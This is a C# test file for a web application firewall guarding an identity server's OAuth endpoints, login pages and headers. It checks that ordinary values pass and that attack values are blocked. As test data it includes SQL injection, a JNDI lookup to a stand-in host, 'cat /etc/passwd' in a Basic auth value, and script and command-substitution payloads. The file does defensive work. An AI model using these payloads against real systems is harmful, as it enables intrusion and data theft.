using System.Buffers.Text;
using System.Net;
using System.Security.Cryptography;
using System.Text;

namespace SecureShop.Gateway.Tests;

/// <summary>
/// Every field that the identity server's protocol and pages read, and the headers of browsers and clients, with the values that they
/// have on an ordinary day: none is taken for an attack, and an attack in the same field is.
/// </summary>
[Trait("Practice", "P31")]
public sealed class FirewallFieldTests(SharedGateway gateway) : IClassFixture<SharedGateway>
{
    private const string Attack = "' or 1=1--";
    private const string Loopback = "http://127.0.0.1:49152/callback";

    private static readonly string Token = $"{Part("""{"alg":"ES256","typ":"at+jwt","kid":"a1"}""")}.{Part("""{"iss":"https://localhost:7002","aud":"https://localhost:7002/connect/token","sub":"a","exp":1}""")}.{Random(64)}";
    private static readonly string Sealed = "CfDJ8" + Random(300);
    private static readonly string Authorize = $"/connect/authorize?client_id=web&response_type=code&scope=openid%20orders.read&redirect_uri={Uri.EscapeDataString(Loopback)}&id_token_hint={Token}&state={Random(16)}";

    private readonly GatewayHost host = gateway.Host;

    /// <summary>Where, which field, and what it holds.</summary>
    public static TheoryData<string, string, string> Fields
    {
        get
        {
            var data = new TheoryData<string, string, string>();
            foreach (var (path, name, value) in Protocol.Concat(Pages))
                data.Add(path, name, value);
            return data;
        }
    }

    public static TheoryData<string, string> Secrets => new()
    {
        { "/connect/token", "client_secret" }, { "/account/login", "Password" }, { "/account/register", "Password" }, { "/account/confirmemail", "Password" },
        { "/account/resetpassword", "Password" }, { "/account/manage/password", "Present" }, { "/account/manage/password", "Password" },
    };

    public static TheoryData<string, string> Headers => new()
    {
        { "Authorization", $"Bearer {Token}" },
        { "Authorization", $"DPoP {Token}" },
        { "Authorization", $"Basic {Convert.ToBase64String("demo:it's; cat /etc/passwd"u8)}" },
        { "DPoP", Token },
        { "Cookie", $"__Host-session={Sealed}; __Host-antiforgery={Sealed}" },
        { "Cookie", $"__Host-session={Token}; theme=dark; consent=%7B%22ads%22%3Afalse%7D" },
        { "If-Match", "\"AAAAAAABB9E=\"" },
        { "If-None-Match", "W/\"12-ab_c\", \"7\"" },
        { "If-Modified-Since", "Thu, 01 Jan 2026 00:00:00 GMT" },
        { "Idempotency-Key", "01980000-0000-7000-8000-000000000001" },
        { "traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01" },
        { "tracestate", "vendor=t61rcWkgMzE,other@sys=00f067aa0ba902b7" },
        { "baggage", "userId=alice,serverNode=DF%2028" },
        { "Origin", "http://localhost:5173" },
        { "Origin", "null" },
        { "Referer", "http://127.0.0.1:3000/cart?item=1&size=XL" },
        { "Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8" },
        { "Accept", "application/json, text/plain, */*" },
        { "Accept-Language", "de-CH,de;q=0.9,en;q=0.8,fr;q=0.7,*;q=0.5" },
        { "Accept-Encoding", "gzip, deflate, br, zstd" },
        { "Cache-Control", "no-cache, no-store, max-age=0, must-revalidate" },
        { "Range", "bytes=0-499, -500" },
        { "Sec-CH-UA", "\"Google Chrome\";v=\"126\", \"Not:A-Brand\";v=\"8\", \"Chromium\";v=\"126\"" },
        { "Sec-CH-UA", "\"(Not(A:Brand\";v=\"99\", \";Not A Brand\";v=\"24\"" },
        { "Sec-CH-UA-Platform", "\"Windows\"" },
        { "Sec-Fetch-Site", "same-origin" },
        { "User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0" },
        { "User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1" },
        { "User-Agent", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0" },
        { "User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)" },
        { "User-Agent", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)" },
        { "User-Agent", "curl/8.5.0" },
        { "User-Agent", "Wget/1.21.4" },
        { "User-Agent", "python-requests/2.32.3" },
        { "User-Agent", "okhttp/4.12.0" },
        { "User-Agent", "Java/17.0.11" },
        { "User-Agent", "PostmanRuntime/7.39.0" },
        { "Via", "1.1 vegur, 1.1 proxy.example.com:8080 (squid/5.7)" },
        { "X-Requested-With", "XMLHttpRequest" },
        { "Priority", "u=1, i" },
        { "DNT", "1" },
    };

    private static IEnumerable<(string Path, string Name, string Value)> Protocol =>
    [
        ("/connect/authorize", "client_id", "web-shop.example"), ("/connect/authorize", "response_type", "code id_token"), ("/connect/authorize", "response_mode", "form_post"),
        ("/connect/authorize", "redirect_uri", Loopback), ("/connect/authorize", "redirect_uri", "http://[::1]:5000/"), ("/connect/authorize", "redirect_uri", "https://localhost:7001/signin-oidc"),
        ("/connect/authorize", "redirect_uri", "secureshop://callback"), ("/connect/authorize", "redirect_uri", "com.example.app:/oauth2redirect"),
        ("/connect/authorize", "scope", "openid profile offline_access catalog.read orders.write"), ("/connect/authorize", "state", Random(32)),
        ("/connect/authorize", "state", Convert.ToBase64String("""{"to":"/cart?item=1"}"""u8)), ("/connect/authorize", "nonce", Random(32)),
        ("/connect/authorize", "code_challenge", Random(32)), ("/connect/authorize", "code_challenge_method", "S256"), ("/connect/authorize", "prompt", "login consent"),
        ("/connect/authorize", "max_age", "300"), ("/connect/authorize", "acr_values", "urn:secureshop:acr:mfa phr"), ("/connect/authorize", "ui_locales", "de-CH de en"),
        ("/connect/authorize", "login_hint", "sinead.o'connor+shop@mail.example.com"), ("/connect/authorize", "id_token_hint", Token),
        ("/connect/authorize", "claims", """{"id_token":{"acr":{"essential":true,"values":["urn:secureshop:acr:mfa"]},"auth_time":null}}"""),
        ("/connect/authorize", "request", Token), ("/connect/authorize", "request_uri", "urn:ietf:params:oauth:request_uri:" + Random(32)),
        ("/connect/authorize", "resource", "https://api.shop.example/orders"), ("/connect/authorize", "resource", "https://localhost:7443/api/orders"),
        ("/connect/par", "resource", "https://localhost:7443/api/orders"), ("/connect/token", "resource", "https://localhost:7443/api/catalog"), ("/connect/authorize", "dpop_jkt", Random(32)), ("/connect/authorize", "display", "popup"),
        ("/connect/par", "client_assertion", Token), ("/connect/par", "authorization_details", """[{"type":"order","locations":["https://api.shop.example"],"actions":["read"]}]"""),
        ("/connect/token", "grant_type", "client_credentials"), ("/connect/token", "grant_type", "urn:ietf:params:oauth:grant-type:device_code"), ("/connect/token", "grant_type", "urn:secureshop:params:oauth:grant-type:api-key"),
        ("/connect/token", "client_id", "demo"), ("/connect/token", "client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"), ("/connect/token", "client_assertion", Token),
        ("/connect/token", "code", Random(48)), ("/connect/token", "code_verifier", Random(48) + "~._-"), ("/connect/token", "refresh_token", Random(64)), ("/connect/token", "redirect_uri", Loopback),
        ("/connect/token", "device_code", Random(48)), ("/connect/token", "api_key", "ss_live_" + Random(32)), ("/connect/token", "scope", "catalog.reserve"),
        ("/connect/deviceauthorization", "scope", "openid orders.read"), ("/connect/introspect", "token", Token), ("/connect/introspect", "token_type_hint", "access_token"),
        ("/connect/revocation", "token", Token), ("/connect/revocation", "token", Random(64)), ("/connect/endsession", "id_token_hint", Token),
        ("/connect/endsession", "post_logout_redirect_uri", "http://localhost:5173/"), ("/connect/userinfo", "access_token", Token), ("/products", "access_token", Token), ("/connect/endsession", "logout_hint", "alice@example.com"),
    ];

    private static IEnumerable<(string Path, string Name, string Value)> Pages =>
    [
        ("/account/login", "Email", "sinead.o'connor+shop@mail.example.com"), ("/account/login", "ReturnUrl", Authorize), ("/account/login", "ReturnUrl", "/account/manage?done=1"),
        ("/account/login", "__RequestVerificationToken", Sealed), ("/account/login", "State", Sealed), ("/account/login", "Credential", Passkey()),
        ("/account/register", "DisplayName", "Seán \"Jack\" O'Brien-D'Angelo & Söhne"), ("/account/secondfactor", "Code", "123456"), ("/account/secondfactor", "Code", "AB12C-DE34F"),
        ("/account/confirmemail", "Id", "01980000-0000-7000-8000-000000000001"), ("/account/confirmemail", "Token", Sealed), ("/account/resetpassword", "Token", Sealed),
        ("/account/device", "user_code", "WDJB-MJHT"), ("/account/consent", "answer", "allow"), ("/account/logout", "LogoutId", Sealed),
        ("/account/manage/email", "Address", "o'hara@example.org"), ("/account/manage/email", "Token", Sealed), ("/account/manage/addpasskey", "Credential", Passkey()),
        ("/account/manage/addpasskey", "Name", "Anna's phone (work)"), ("/account/manage/passkeydetails", "Id", Random(64)), ("/account/manage/authenticator", "Setup", Sealed),
        ("/account/manage/keys", "Name", "CI & backup (nightly)"), ("/account/manage/keys", "Scope", "orders.read"), ("/account/manage/sessions", "id", Random(16)),
        ("/account/manage/data", "Email", "alice@example.com"), ("/admin/users", "Account", "o'hara@people.example"), ("/admin/user", "role", "support"),
    ];

    [Theory, MemberData(nameof(Fields))]
    public async Task An_ordinary_value_passes_in_a_form_and_in_a_query_and_an_attack_does_not(string path, string field, string value)
    {
        Assert.Equal(HttpStatusCode.OK, await PostAsync(path, field, value));
        Assert.Equal(HttpStatusCode.OK, await GetAsync(path, field, value));
        Assert.Equal(HttpStatusCode.Forbidden, await PostAsync(path, field, Attack));
        Assert.Equal(HttpStatusCode.Forbidden, await GetAsync(path, field, "${jndi:ldap://evil.example/a}"));
    }

    [Theory, MemberData(nameof(Secrets))]
    public async Task A_password_may_look_like_an_attack(string path, string field)
    {
        Assert.Equal(HttpStatusCode.OK, await PostAsync(path, field, "<script>' or 1=1--$(id)"));
        Assert.Equal(HttpStatusCode.Forbidden, await PostAsync(path, field + "2", "<script>' or 1=1--$(id)"));
    }

    [Theory, MemberData(nameof(Headers))]
    public async Task An_ordinary_header_passes_and_an_attack_does_not(string name, string value)
    {
        using var passed = await GatewayHost.SendAsync(host.Identity, HttpMethod.Get, "/account/login", headers: (name, value));
        using var refused = await GatewayHost.SendAsync(host.Identity, HttpMethod.Get, "/account/login", headers: (name, name == "Cookie" ? $"__Host-session={Attack}" : Attack));
        Assert.NotEqual(HttpStatusCode.Forbidden, passed.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
    }

    [Fact]
    public async Task An_address_of_the_inside_is_refused_where_a_server_might_call_it()
    {
        Assert.Equal(HttpStatusCode.Forbidden, await GetAsync("/connect/authorize", "request_uri", Loopback));
        Assert.Equal(HttpStatusCode.Forbidden, await GetAsync("/account/login", "redirect_uri", Loopback));
        Assert.Equal(HttpStatusCode.Forbidden, await GetAsync("/connect/authorize", "x", Token));
    }

    private async Task<HttpStatusCode> PostAsync(string path, string field, string value)
    {
        using var form = new FormUrlEncodedContent([new(field, value)]);
        using var answer = await host.Identity.PostAsync(path, form, TestContext.Current.CancellationToken);
        return answer.StatusCode;
    }

    private async Task<HttpStatusCode> GetAsync(string path, string field, string value)
    {
        using var answer = await host.Identity.GetAsync($"{path}?{field}={Uri.EscapeDataString(value)}", TestContext.Current.CancellationToken);
        return answer.StatusCode;
    }

    private static string Passkey()
        => $$$"""{"id":"{{{Random(32)}}}","rawId":"{{{Random(32)}}}","type":"public-key","authenticatorAttachment":"platform","response":{"clientDataJSON":"{{{Part("""{"type":"webauthn.get","challenge":"eA","origin":"https://localhost:7002","crossOrigin":false}""")}}}","authenticatorData":"{{{Random(37)}}}","signature":"{{{Random(71)}}}","userHandle":"{{{Random(16)}}}"},"clientExtensionResults":{}}""";

    private static string Part(string json) => Base64Url.EncodeToString(Encoding.UTF8.GetBytes(json));

    // The same in every run, so that what passes once passes always.
    private static string Random(int bytes) => Base64Url.EncodeToString(SHA512.HashData(Encoding.UTF8.GetBytes($"{bytes}")).AsSpan(0, Math.Min(bytes, 64)));
}
